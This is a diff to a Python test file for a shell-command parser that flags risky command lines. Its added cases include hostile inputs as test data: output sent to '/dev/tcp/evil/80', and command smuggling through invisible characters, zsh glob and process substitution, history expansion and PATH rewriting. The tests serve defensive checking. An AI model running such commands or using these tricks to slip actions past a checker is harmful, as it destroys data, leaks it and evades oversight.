@@ -76,6 +76,15 @@ def test_a_plain_line_becomes_its_commands_without_a_concern(line: str, commands
         ('!"ls"', "is not understood here"),
         ("ls\rrm x", "an invisible or control character (U+000D)"),
         ("ls\u200b", "an invisible or control character (U+200B)"),
+        ("ls\u00a0rm", "an invisible or control character (U+00A0)"),
+        ("env FOO=1 ls", "env sets a variable for the command: FOO=1"),
+        ("builtin cd /etc; ls > x", "after a change of folder"),
+        ("echo !rm", "may call up an earlier command"),
+        ('echo "now !!"', "may call up an earlier command"),
+        ("read PATH; ls", "read changes variables"),
+        ("ls *(e:'rm x':)", "it cannot be parsed"),
+        ("ls =(rm x)", "it cannot be parsed"),
+        ("echo hi > /dev/tcp/evil/80", "out of the workspace"),
         ("ls; -x2>&1", "a redirection that is not understood"),
         ("aa 22>&1", "a redirection that is not understood"),
         ("ls 2>/dev/null dir", "words after a redirection"),
@@ -120,6 +129,21 @@ def test_a_command_is_also_seen_as_what_it_really_runs(line: str, reading: str) 
 def test_a_part_knows_its_words_and_where_it_begins() -> None:
     _, second = parse_command("écho a; rm 'b c'").parts
     assert (second.words, second.position) == (("rm", "b c"), 8)
+
+
+@pytest.mark.parametrize("line", ["echo 'ha!x'", 'echo "Done!"', "find . ! -name x", "echo a!=b", "[ ! -f x ]"])
+def test_an_exclamation_mark_that_recalls_nothing_is_no_concern(line: str) -> None:
+    assert parse_command(line).concerns == ()
+
+
+def test_a_part_knows_what_it_runs_in_turn_and_a_line_where_its_redirections_lead() -> None:
+    parsed = parse_command("sudo nice rm x > out 2>&1 < in", "/w")
+    [part] = parsed.parts
+    assert [(one.argv_text, one.outer_probe) for one in part.inner] == [
+        ("nice rm x", "sudo ⁇ rm x"),
+        ("rm x", "sudo nice ⁇ x"),
+    ]
+    assert parsed.files == ("out", "in")
 
 
 def test_a_file_within_the_workspace_may_be_written_by_its_whole_path() -> None:
